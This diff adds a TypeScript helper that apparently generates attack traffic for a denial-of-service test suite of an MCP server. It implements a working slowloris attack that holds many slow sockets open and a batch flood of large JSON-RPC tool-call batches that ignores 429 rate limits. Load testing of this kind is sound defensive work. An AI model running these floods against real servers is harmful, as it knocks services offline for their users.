@@ -1,0 +1,217 @@
+// Attack traffic for attacks.ts, run in a child process so that it never shares an event loop with the
+// healthy client being measured. Usage (forked by attacks.ts): attackers.ts <slowloris|batch> <options JSON>
+// Sends {ready: true} once the attack runs, then {stats} when it receives "stop", and exits.
+import { connect, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+
+/** Options of the slow-connection attack. */
+export interface SlowlorisOptions {
+  readonly host: string;
+  readonly port: number;
+  /** Local addresses the sockets come from (127.0.0.x: each plays a different client host). */
+  readonly addresses: readonly string[];
+  readonly socketsPerAddress: number;
+  /** One header byte per socket this often: enough to reset any inactivity timer. */
+  readonly byteEveryMs: number;
+  /** Wait after a socket is closed before opening its replacement, as slowloris tools do. */
+  readonly reconnectAfterMs: number;
+}
+
+/** Options of the batch attack. */
+export interface BatchOptions {
+  readonly url: string;
+  readonly token: string;
+  readonly workers: number;
+  /** Elements of each big batch. */
+  readonly elements: number;
+  /** The read tool each element calls (a ~300 KB reference). */
+  readonly readTool: string;
+  /** The get_info tool that unlocks readTool. */
+  readonly unlockTool: string;
+  /**
+   * mixed: every batch shape the issue reproduced, as fast as answers come, ignoring 429s. allowance: only
+   * the largest batch a 2025-03-26 session may send, waiting out each Retry-After: a principal that uses
+   * its whole rate limit on the heaviest requests it is allowed.
+   */
+  readonly mode: 'mixed' | 'allowance';
+}
+
+const [role = '', json = '{}'] = process.argv.slice(2);
+let stopping = false;
+const stopped = new Promise<void>((resolve) => {
+  process.on('message', (message) => {
+    if (message === 'stop') {
+      stopping = true;
+      resolve();
+    }
+  });
+});
+const send = (message: unknown) => process.send?.(message);
+
+async function slowloris(options: SlowlorisOptions): Promise<Record<string, number>> {
+  const stats = { opened: 0, refusedOnAccept: 0, answered408: 0, otherClose: 0, maxOpen: 0 };
+  let open = 0;
+  const header = `POST /mcp HTTP/1.1\r\nHost: ${options.host}\r\nUser-Agent: slow\r\nX-Pad: ${'a'.repeat(4096)}\r\n`;
+  const live = new Set<Socket>();
+
+  const start = (localAddress: string): void => {
+    if (stopping) return;
+    let received = '';
+    let sent = 0;
+    let connected = false;
+    let timer: NodeJS.Timeout | undefined;
+    const tick = () => {
+      if (sent < header.length) socket.write(header[sent++] ?? '');
+      timer = setTimeout(tick, options.byteEveryMs);
+    };
+    const socket = connect({ host: options.host, port: options.port, localAddress }, () => {
+      connected = true;
+      stats.opened += 1;
+      open += 1;
+      stats.maxOpen = Math.max(stats.maxOpen, open);
+      // Each socket starts at a random phase, so the bytes arrive spread over time.
+      timer = setTimeout(tick, Math.random() * options.byteEveryMs);
+    });
+    live.add(socket);
+    socket.setEncoding('utf8');
+    socket.on('data', (chunk: string) => {
+      received += chunk;
+    });
+    socket.on('error', () => {});
+    socket.on('close', () => {
+      clearTimeout(timer);
+      live.delete(socket);
+      if (connected) open -= 1;
+      if (received.startsWith('HTTP/1.1 408')) stats.answered408 += 1;
+      else if (received === '') stats.refusedOnAccept += 1;
+      else stats.otherClose += 1;
+      setTimeout(() => start(localAddress), options.reconnectAfterMs);
+    });
+  };
+
+  for (const address of options.addresses) {
+    for (let i = 0; i < options.socketsPerAddress; i++) start(address);
+  }
+  await sleep(500);
+  send({ ready: true });
+  await stopped;
+  for (const socket of live) socket.destroy();
+  return { ...stats, openAtStop: open };
+}
+
+async function batch(options: BatchOptions): Promise<Record<string, number>> {
+  const headers = (session?: string, version = '2025-11-25') => ({
+    'content-type': 'application/json',
+    accept: 'application/json, text/event-stream',
+    authorization: `Bearer ${options.token}`,
+    'mcp-protocol-version': version,
+    ...(session === undefined ? {} : { 'mcp-session-id': session }),
+  });
+  const openSession = async (version: string): Promise<string> => {
+    const init = await fetch(options.url, {
+      method: 'POST',
+      headers: headers(undefined, version),
+      body: JSON.stringify({
+        jsonrpc: '2.0',
+        id: 0,
+        method: 'initialize',
+        params: {
+          protocolVersion: version,
+          capabilities: {},
+          clientInfo: { name: 'attacker', version: '1' },
+        },
+      }),
+    });
+    await init.text();
+    const id = init.headers.get('mcp-session-id');
+    if (id === null) throw new Error(`attacker initialize answered ${init.status}`);
+    await (
+      await fetch(options.url, {
+        method: 'POST',
+        headers: headers(id, version),
+        body: JSON.stringify({ jsonrpc: '2.0', method: 'notifications/initialized' }),
+      })
+    ).text();
+    const unlock = await fetch(options.url, {
+      method: 'POST',
+      headers: headers(id, version),
+      body: JSON.stringify({
+        jsonrpc: '2.0',
+        id: 1,
+        method: 'tools/call',
+        params: { name: options.unlockTool },
+      }),
+    });
+    await unlock.text();
+    return id;
+  };
+  const current = await openSession('2025-11-25');
+  const legacy = await openSession('2025-03-26');
+  // Ids differ across requests: two requests in flight with one id on one session are refused as such.
+  let nextId = 10;
+  const reads = (n: number) =>
+    JSON.stringify(
+      Array.from({ length: n }, () => ({
+        jsonrpc: '2.0',
+        id: nextId++,
+        method: 'tools/call',
+        params: { name: options.readTool, arguments: {} },
+      })),
+    );
+  const big = reads(options.elements);
+  // Every shape of batch the issue reproduced, plus the largest batch a 2025-03-26 session may send.
+  type Kind = readonly [string, () => RequestInit];
+  const max: Kind = [
+    '16-element batch, 2025-03-26 session',
+    () => ({ method: 'POST', headers: headers(legacy, '2025-03-26'), body: reads(16) }),
+  ];
+  const reproduced: Kind[] = [
+    ['big batch, 2025-11-25 session', () => ({ method: 'POST', headers: headers(current), body: big })],
+    [
+      'big batch, 2025-03-26 session',
+      () => ({ method: 'POST', headers: headers(legacy, '2025-03-26'), body: big }),
+    ],
+    ['big batch, no session', () => ({ method: 'POST', headers: headers(), body: big })],
+  ];
+  const kinds: readonly Kind[] = options.mode === 'allowance' ? [max] : [...reproduced, max];
+  const stats: Record<string, number> = { requests: 0, responseBytes: 0, errors: 0 };
+  const worker = async (offset: number) => {
+    for (let i = offset; !stopping; i++) {
+      const [label, init] = kinds[i % kinds.length] ?? kinds[0] ?? ['', () => ({})];
+      try {
+        const response = await fetch(options.url, init());
+        const body = await response.arrayBuffer();
+        stats.requests = (stats.requests ?? 0) + 1;
+        stats.responseBytes = (stats.responseBytes ?? 0) + body.byteLength;
+        const key = `${label} -> ${response.status}`;
+        stats[key] = (stats[key] ?? 0) + 1;
+        const retryAfter = Number(response.headers.get('retry-after') ?? 0);
+        if (options.mode === 'allowance' && response.status === 429) await sleep(retryAfter * 1000);
+      } catch {
+        stats.errors = (stats.errors ?? 0) + 1;
+      }
+    }
+  };
+  const workers = Array.from({ length: options.workers }, (_, i) => worker(i));
+  send({ ready: true, bodyBytes: Buffer.byteLength(big) });
+  await stopped;
+  await Promise.all(workers);
+  return stats;
+}
+
+const run =
+  role === 'slowloris'
+    ? slowloris(JSON.parse(json) as SlowlorisOptions)
+    : role === 'batch'
+      ? batch(JSON.parse(json) as BatchOptions)
+      : Promise.reject(new Error(`unknown role ${role}`));
+run.then(
+  (stats) => {
+    send({ stats });
+    process.disconnect?.();
+  },
+  (error: unknown) => {
+    process.stderr.write(`${String(error)}\n`);
+    process.exit(1);
+  },
+);
